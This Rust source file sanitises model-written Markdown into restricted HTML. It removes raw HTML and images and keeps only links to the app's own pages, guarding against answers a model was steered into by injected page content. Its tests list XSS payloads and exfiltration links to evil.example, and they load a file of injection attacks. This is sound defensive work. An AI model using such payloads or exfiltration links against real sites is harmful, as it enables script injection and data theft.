//! What a model wrote, as HTML of our own making. A model may have been talked into anything by a page that it read: so nothing of it
//! is HTML, no picture is shown, and a link leads to a page of ours or is no link.

use pulldown_cmark::{Alignment, CowStr, Event, HeadingLevel, LinkType, Options, Parser, Tag, TagEnd, html::push_html};

/// Pages of ours that an answer may lead to.
const LINKED: [&str; 7] = ["/captures", "/items", "/runs", "/robots", "/schedules", "/enrichments", "/billing"];

/// The HTML of an answer; `base` is what our own paths begin with.
pub(crate) fn render(markdown: &str, base: &str) -> String {
    let events = Safe { base, events: Parser::new_ext(markdown, Options::ENABLE_TABLES), links: Vec::new() };
    let mut html = String::with_capacity(markdown.len() * 2);
    push_html(&mut html, events);
    html
}

struct Safe<'a, I> {
    base: &'a str,
    events: I,
    /// For each open link, whether it is one.
    links: Vec<bool>,
}

impl<'a, I: Iterator<Item = Event<'a>>> Iterator for Safe<'_, I> {
    type Item = Event<'a>;

    fn next(&mut self) -> Option<Event<'a>> {
        loop {
            return Some(match self.events.next()? {
                Event::Html(text) | Event::InlineHtml(text) => Event::Text(text),
                Event::Start(Tag::HtmlBlock) => Event::Start(Tag::Paragraph),
                Event::End(TagEnd::HtmlBlock) => Event::End(TagEnd::Paragraph),
                // What stands in place of the picture is text.
                Event::Start(Tag::Image { .. }) | Event::End(TagEnd::Image) => continue,
                Event::Start(Tag::Link { dest_url, id, .. }) => {
                    let path = own_path(&dest_url, self.base);
                    self.links.push(path.is_some());
                    let Some(path) = path else { continue };
                    // Whatever kind it was written as: one of an address of mail would be written as such.
                    let (link_type, title) = (LinkType::Inline, CowStr::from(""));
                    Event::Start(Tag::Link { link_type, dest_url: CowStr::from(path), title, id })
                }
                Event::End(TagEnd::Link) => {
                    if !self.links.pop().unwrap_or_default() {
                        continue;
                    }
                    Event::End(TagEnd::Link)
                }
                // Where a column stands would be an inline style, which no page has.
                Event::Start(Tag::Table(columns)) => Event::Start(Tag::Table(vec![Alignment::None; columns.len()])),
                Event::Start(Tag::Heading { level, .. }) => {
                    Event::Start(Tag::Heading { level: below(level), id: None, classes: Vec::new(), attrs: Vec::new() })
                }
                Event::End(TagEnd::Heading(level)) => Event::End(TagEnd::Heading(below(level))),
                other => other,
            });
        }
    }
}

/// Headings of an answer stand below those of the page.
fn below(level: HeadingLevel) -> HeadingLevel {
    match level {
        HeadingLevel::H1 | HeadingLevel::H2 => HeadingLevel::H3,
        _ => HeadingLevel::H4,
    }
}

/// The path of a page of ours, where it leads to one.
fn own_path(link: &str, base: &str) -> Option<String> {
    let plain = link.bytes().all(|byte| byte.is_ascii_graphic() && !matches!(byte, b'\\' | b'"' | b'<' | b'>'));
    let path = link.split(['?', '#']).next().unwrap_or_default();
    let is_linked =
        LINKED.iter().any(|page| path.strip_prefix(page).is_some_and(|rest| rest.is_empty() || rest.starts_with('/')));
    let climbs = path.contains("//") || path.split('/').any(|part| part == ".." || part == "." || part.contains('%'));
    (plain && is_linked && !climbs).then(|| format!("{base}{link}"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_answer_is_shown_as_it_was_meant() {
        let html = render(
            "# Cheaper\n\n| Shoe | Price |\n| --- | ---: |\n| [Trail](/captures/1) | **41.97 USD** |\n\n- one\n- two `x < 1`",
            "/creel",
        );
        for part in [
            "<h3>Cheaper</h3>",
            "<table>",
            "<a href=\"/creel/captures/1\">Trail</a>",
            "<strong>41.97 USD</strong>",
            "<li>one</li>",
            "<code>x &lt; 1</code>",
        ] {
            assert!(html.contains(part), "{part} is not in {html}");
        }
        assert!(!html.contains("style="), "{html}");
    }

    #[test]
    fn nothing_of_it_leads_away_loads_or_runs() {
        for attack in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "a <b onclick=alert(1)>b</b>",
            "[x](javascript:alert(1))",
            "[x](JaVaScRiPt:alert(1))",
            "[x](data:text/html,<script>1</script>)",
            "[x](https://evil.example/?q=secret)",
            "[x](//evil.example)",
            "[x](/\\evil.example)",
            "[x](/captures/../sign-out)",
            "[x](/captures/%2e%2e/sign-out)",
            "[x](/sign-out)",
            "[x](/capturesx)",
            "[x](/captures//evil.example)",
            "![x](https://evil.example/pixel.png)",
            "![x](/captures/1)",
            "<https://evil.example>",
            "<someone@evil.example>",
            "[x]: https://evil.example\n\n[x]",
            "[![x](https://evil.example/a.png)](https://evil.example)",
            "<a href=\"https://evil.example\">x</a>",
            "[x](/captures/1\"onmouseover=\"alert(1))",
            "[x](</captures/1 onclick=alert(1)>)",
            "<style>body{display:none}</style>",
            "<!-- x --><iframe src=/captures></iframe>",
            "| a |\n| --- |\n| <img src=x> [y](https://evil.example) |",
        ] {
            let html = render(attack, "");
            let lower = html.to_lowercase();
            for bad in
                ["<script", "<img", "<iframe", "<style", "<b ", "<a href=\"http", "<a href=\"//", "<a href=\"javascript"]
            {
                assert!(!lower.contains(bad), "{attack} became {html}");
            }
            let links: Vec<&str> = html.match_indices("<a ").map(|(at, _)| &html[at..]).collect();
            assert!(links.iter().all(|link| link.starts_with("<a href=\"/captures/1\">")), "{attack} became {html}");
        }
    }

    #[test]
    fn an_address_of_mail_is_no_link_to_it() {
        let html = render("</captures?body=secret&cc=x@evil.example>", "");
        assert!(!html.contains("mailto"), "{html}");
        assert_eq!(strange(&html), None);
    }

    /// The first tag that is none of ours, or a link that leads elsewhere.
    fn strange(html: &str) -> Option<&str> {
        const KNOWN: &str = "p a h3 h4 ul ol li em strong code pre blockquote hr br table thead tbody tr th td";
        html.match_indices('<').map(|(at, _)| &html[at..]).find(|tag| {
            let name: String =
                tag.chars().skip(1).skip_while(|c| *c == '/').take_while(char::is_ascii_alphanumeric).collect();
            let leads_away = name == "a"
                && tag.starts_with("<a")
                && !LINKED.iter().any(|page| tag.starts_with(&format!("<a href=\"{page}")));
            !KNOWN.split(' ').any(|known| known == name) || leads_away
        })
    }

    #[test]
    fn what_shops_write_is_shown_as_words_when_a_model_repeats_it() {
        let attacks: Vec<serde_json::Value> =
            serde_json::from_str(include_str!("../../assistant/tests/it/attacks.json")).unwrap();
        assert!(attacks.len() >= 40);
        for attack in &attacks {
            let text = attack["text"].as_str().unwrap();
            for said in [
                text.to_owned(),
                format!("| Title |\n| --- |\n| {text} |"),
                format!("[{text}]({text})"),
                format!("- {text}"),
            ] {
                let html = render(&said, "");
                assert_eq!(strange(&html), None, "{}", attack["name"]);
            }
        }
    }

    proptest::proptest! {
        #[test]
        fn no_text_makes_a_tag_that_is_not_ours(text in "[<>a-z/=\"'\\[\\]()!*`|\\n #:-]{0,120}") {
            let html = render(&text, "");
            proptest::prop_assert_eq!(strange(&html), None);
        }
    }
}
